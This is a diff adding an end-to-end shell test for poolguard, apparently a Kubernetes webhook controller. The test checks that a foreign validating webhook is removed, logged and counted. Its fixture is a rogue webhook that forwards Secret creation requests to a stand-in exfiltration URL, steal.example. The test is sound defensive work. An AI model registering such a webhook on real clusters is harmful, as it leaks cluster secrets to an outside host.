@@ -646,6 +646,30 @@ for kind_name in MutatingWebhookConfiguration ValidatingWebhookConfiguration; do
         bad "${name}: after the upgrade, registered webhooks differ from the chart's: $(head -n 30 "$cmd_out")"
     fi
 done
+# The list of webhooks is poolguard's alone: a webhook someone adds with a token that may patch
+# the configuration (here: poolguard's own ServiceAccount's, the serving pods' token) is removed
+# at the next registration pass, logged with where it sent requests, and counted.
+foreign='{"name": "steal.example.com", "clientConfig": {"url": "https://steal.example/secrets"}, "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets"]}], "sideEffects": "None", "admissionReviewVersions": ["v1"], "failurePolicy": "Ignore"}'
+expect "a token that may patch the validating configuration adds a webhook on Secrets with a foreign url" \
+    kubectl --kubeconfig "$sa_kubeconfig" patch validatingwebhookconfiguration poolguard-validating --type json \
+    -p "[{\"op\": \"add\", \"path\": \"/webhooks/-\", \"value\": ${foreign}}]"
+has_foreign() { kubectl get validatingwebhookconfiguration poolguard-validating -o json | jq -e '[.webhooks[].name] | index("steal.example.com") != null' >/dev/null; }
+deadline=$((SECONDS + 45))
+while has_foreign && ((SECONDS < deadline)); do sleep 1; done
+if ! has_foreign && grep -q 'removed a webhook poolguard did not write' "${state}/poolguard.log" \
+    && grep 'removed a webhook poolguard did not write' "${state}/poolguard.log" | grep -q 'https://steal.example/secrets'; then
+    ok "the foreign webhook was removed within $((45 - (deadline - SECONDS))) s and logged with its url"
+else
+    bad "the foreign webhook is still registered or was not logged: $(grep -m2 -E 'removed|foreign' "${state}/poolguard.log" || echo 'nothing logged')"
+fi
+removed="$(curl -sf "http://127.0.0.1:${metrics_port}/metrics" | awk '$1 == "poolguard_foreign_webhooks_removed_total" {print $2}')"
+if [[ "$removed" == 1 ]]; then ok "poolguard_foreign_webhooks_removed_total 1"; else bad "poolguard_foreign_webhooks_removed_total '${removed}'"; fi
+kind_name=ValidatingWebhookConfiguration
+if registered_webhooks validatingwebhookconfiguration poolguard-validating | diff -u <(rendered_webhooks --set webhook.timeoutSeconds=8) - >"$cmd_out"; then
+    ok "poolguard-validating: after the removal, the registered webhooks are exactly the chart's"
+else
+    bad "poolguard-validating: after the removal, registered webhooks differ from the chart's: $(head -n 30 "$cmd_out")"
+fi
 kill -TERM "$pg_pid"
 wait "$pg_pid" || true
 pg_pid=""
